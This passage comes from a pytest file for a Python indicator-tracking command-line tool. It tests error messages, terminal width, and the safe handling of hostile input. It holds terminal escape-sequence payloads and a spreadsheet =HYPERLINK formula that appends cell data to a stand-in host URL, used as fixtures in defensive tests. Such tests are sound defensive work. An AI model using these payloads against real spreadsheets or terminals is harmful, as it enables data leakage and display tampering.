    r = ntm(*args)
    assert r.exit_code == ExitCode.USAGE_ERROR
    assert r.stderr.startswith(f"Error: {out}: The file already exists; add --force")
    assert out.read_text(encoding="utf-8") == "finished by hand\n"
    r = ntm(*args, "--force")
    assert r.exit_code == 0, r.stderr
    assert r.stdout == f"Written: {out}\n"
    assert out.read_text(encoding="utf-8") != "finished by hand\n"


# -- 7. the commonest Notepad slips: the line Notepad shows, and the fix ---------------------

SLIPS = [
    ("  revenue:\u00a082\n  income: 80\n", 3, "column 11 holds a space that is not an ordinary"),
    ("  revenue:82\n  income: 80\n", 3, "add a space after the colon: 'revenue: 82'"),
    ("  revenue: 82\n    income: 80\n", 4, "indented 4 spaces and the line above 2; indent them "
     "alike: 2 spaces"),
    ("\u3000 revenue: 82\n  income: 80\n", 3, "column 1 holds a space that is not an ordinary"),
    ("  revenue: {value:82}\n", 3, "add a space after the colon: 'value: 82'"),
    ("  revenue: {value: 1.234,5}\n", 3, "'1.234,5' inside braces {...} is split at the comma"),
    ("  6a: 94\n", 3, "write its id: 'health_insurance: ...'"),
    ("  Thu nhập bình quân đầu người: 87\n", 3, "write its id: 'income: ...'"),
]  # fmt: skip


@pytest.mark.parametrize(("lines", "line", "message"), SLIPS)
def test_a_notepad_slip_is_named_on_its_line_with_its_fix(
    demo_dir: Path, ntm: Invoke, lines: str, line: int, message: str
) -> None:
    path = demo_dir / "actuals" / "2028.yaml"
    path.write_text("year: 2028\nvalues:\n" + lines, encoding="utf-8")
    r = ntm("--data-dir", str(demo_dir), "status", "--lang", "en")
    assert r.exit_code == ExitCode.DATA_ERROR
    assert r.stderr.startswith(f"Error: {path}, line {line}: ")
    assert message in r.stderr
    assert "put the value in quotes" not in r.stderr


@pytest.mark.parametrize(
    ("text", "line", "message"),
    [
        ("year: 2028\n  revenue: 82\n  income: 80\n", 2, "the line `values:` is missing"),
        ("year: 2028\nrevenue: 82\n", 2, "stands outside `values:`"),
        ("# a\u0085b\nyear: 2028\nvalues:\n  revenue: x\n", 1, "column 4 holds U+0085"),
        ("# a\u2028b\n# c\nyear: 2028\nvalues:\n  revenue: x\n", 1, "column 4 holds U+2028"),
    ],
)
def test_a_slip_around_the_figures_is_named_too(
    demo_dir: Path, ntm: Invoke, text: str, line: int, message: str
) -> None:
    path = demo_dir / "actuals" / "2028.yaml"
    path.write_text(text, encoding="utf-8")
    r = ntm("--data-dir", str(demo_dir), "check", "--lang", "en")
    assert r.exit_code == ExitCode.DATA_ERROR
    assert r.stdout.startswith(f"{path}:{line}: error: ") and message in r.stdout


def test_a_line_number_after_a_nel_in_a_comment_is_notepad_s(demo_dir: Path, ntm: Invoke) -> None:
    path = demo_dir / "actuals" / "2028.yaml"
    # a NEL inside a quoted note parses (as a line break), and the bad figure below it is
    # still reported on the line Notepad shows
    path.write_text('year: 2028\ncomment: "a\u0085b"\nvalues:\n  revenue: abc\n', encoding="utf-8")
    r = ntm("--data-dir", str(demo_dir), "check", "--lang", "en")
    assert f"{path}:4: error: 'abc' is not a number" in r.stdout


@pytest.mark.parametrize("end", ["...\n", "---\n", "...\n# the end\n", "---\n...\n"])
def test_a_document_end_left_at_the_bottom_does_not_block_writes(
    demo_dir: Path, ntm: Invoke, end: str
) -> None:
    path = demo_dir / "actuals" / "2028.yaml"
    path.write_text("year: 2028\nvalues:\n  revenue: 82\n" + end, encoding="utf-8")
    d = str(demo_dir)
    assert ntm("--data-dir", d, "check").exit_code == 0
    for args in (["record", "2028", "income", "90"], ["record", "2028", "revenue", "91", "--force"],
                 ["unset", "2028", "income"]):  # fmt: skip
        r = ntm("--data-dir", d, *args, "--lang", "en")
        assert r.exit_code == 0, (args, r.stderr)
    assert entries(demo_dir, 2028)["revenue"].value == 91  # type: ignore[attr-defined]
    assert path.read_text(encoding="utf-8").endswith(end)


# -- 9. width: never a row wider than the terminal ------------------------------------------


def on_a_terminal(columns: int, *args: str) -> str:
    """What ntm prints on a real terminal of ``columns`` (a pseudo-terminal, its window
    size set; no COLUMNS in the environment, as in a Windows console or a login shell)."""
    import fcntl
    import os
    import struct
    import subprocess
    import sys
    import termios

    from tests.conftest import ROOT

    main, child = os.openpty()
    fcntl.ioctl(child, termios.TIOCSWINSZ, struct.pack("HHHH", 50, columns, 0, 0))
    env = {"PYTHONPATH": str(ROOT), "NTM_CACHE_DIR": "", "TERM": "xterm"}
    process = subprocess.Popen(
        [sys.executable, "-m", "ntm_tracker", "--data-dir", str(DEMO), *args, "--color", "never"],
        stdin=child,
        stdout=child,
        stderr=child,
        env=env,
    )
    os.close(child)
    out = b""
    while True:
        try:
            data = os.read(main, 65536)
        except OSError:
            break
        if not data:
            break
        out += data
    process.wait(timeout=60)
    os.close(main)
    return out.decode("utf-8").replace("\r\n", "\n")


@pytest.mark.parametrize("columns", [80, 120, 160])
@pytest.mark.parametrize(
    "args",
    [["status"], ["status", "--lang", "en", "--forecast"], ["summary", "2027"],
     ["history", "1"], ["history", "6a", "--lang", "en"], ["indicators"]],
)  # fmt: skip
def test_no_row_is_wider_than_the_terminal(columns: int, args: list[str]) -> None:
    out = on_a_terminal(columns, *args)
    assert out.strip()
    assert max(len(line) for line in out.splitlines()) <= columns, out


def test_a_narrow_terminal_names_the_columns_it_leaves_out() -> None:
    out = on_a_terminal(80, "status", "--lang", "en")
    assert "Left out to fit the window: Path 2027, Needed a year, Against target" in out
    assert "Left out" not in on_a_terminal(160, "status", "--lang", "en")


def test_into_a_pipe_a_table_is_whole(ntm: Invoke, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("COLUMNS")
    out = ntm("--data-dir", str(DEMO), "status", "--lang", "en").stdout
    rows = [line for line in out.splitlines() if re.match(r"S?\d+[a-z]?\s", line)]
    assert len(rows) == 24  # a row per line: no name wrapped onto a second line
    assert "Path" in out and "Needed" in out and "Left out" not in out


def test_a_control_character_in_the_plan_is_named_with_its_line(
    demo_dir: Path, ntm: Invoke
) -> None:
    plan = demo_dir / "targets.yaml"
    text = plan.read_text(encoding="utf-8")
    name = "Thu nhập bình quân đầu người trên địa bàn\n"
    text = text.replace(f"vi: {name}", f'vi: "\\e[2J{name[:-1]}"\n', 1)
    plan.write_text(text, encoding="utf-8")
    r = ntm("--data-dir", str(demo_dir), "status", "--lang", "en")
    assert r.exit_code == ExitCode.DATA_ERROR
    assert "contains an invisible control character (U+001B)" in r.stderr
    assert not TERMINAL_UNSAFE.search(r.stdout + r.stderr)


def test_a_file_name_or_a_history_id_with_an_escape_is_shown_escaped(
    demo_dir: Path, ntm: Invoke, tmp_path: Path
) -> None:
    d = str(demo_dir)
    (demo_dir / "actuals" / "2027\x1b[2J.yaml").write_text("year: 2027\n")
    with (demo_dir / "actuals" / "2026.yaml").open("a", encoding="utf-8") as f:
        f.write('history:\n  - {indicator: "a\\e[2J", value: 1, replaced_at: 2026-01-01T00:00}\n')
    out = tmp_path / "x\x1b]0;t\x07.csv"
    for args in (["check"], ["log"], ["status"], ["export", "-o", str(out)]):
        r = ntm("--data-dir", d, *args, "--lang", "en")
        printed = r.stdout + r.stderr
        assert not TERMINAL_UNSAFE.search(printed), (args, printed)
        assert "\\x1b" in printed, args


def test_a_village_s_formula_imported_as_a_note_stays_text(
    demo_dir: Path, ntm: Invoke, tmp_path: Path
) -> None:
    village = tmp_path / "thon.csv"
    village.write_text(
        'Năm;Chỉ tiêu;Số liệu;Ghi chú\n2028;3;90;"=HYPERLINK(""http://x.invalid/?d=""&B5;""Xem"")"\n',
        encoding="utf-8",
    )
    r = ntm("--data-dir", str(demo_dir), "import", str(village))
    assert r.exit_code == 0, r.stderr
    assert note_of(demo_dir, "income", 2028) == '=HYPERLINK("http://x.invalid/?d="&B5;"Xem")'
    out = tmp_path / "x.xlsx"
    assert ntm("--data-dir", str(demo_dir), "export", "-o", str(out)).exit_code == 0
    assert formula_cells(out.read_bytes()) == []


def test_the_system_s_reasons_carry_no_errno_name(tmp_path: Path, ntm: Invoke) -> None:
    (tmp_path / "d").mkdir()
    (tmp_path / "d" / "actuals").write_text("a file where a folder goes")
    r = ntm("init", str(tmp_path / "d"))
    assert r.exit_code == ExitCode.DATA_ERROR
    assert r.stderr == (
        f"Lỗi: {tmp_path / 'd'}: không tạo được thư mục dữ liệu: đã có một tệp hoặc thư mục "
        "trùng tên.\n"
    )


def test_a_note_with_windows_line_breaks_in_an_older_file_still_loads(
    demo_dir: Path, ntm: Invoke
) -> None:
    (demo_dir / "actuals" / "2028.yaml").write_text(
        'year: 2028\nvalues:\n  income: {value: 90, note: "a\\r\\nb\\rc"}\n'
    )
    assert note_of(demo_dir, "income", 2028) == "a\nb\nc"
    r = ntm("--data-dir", str(demo_dir), "summary", "2028")
    assert r.exit_code == 0 and "\r" not in r.stdout
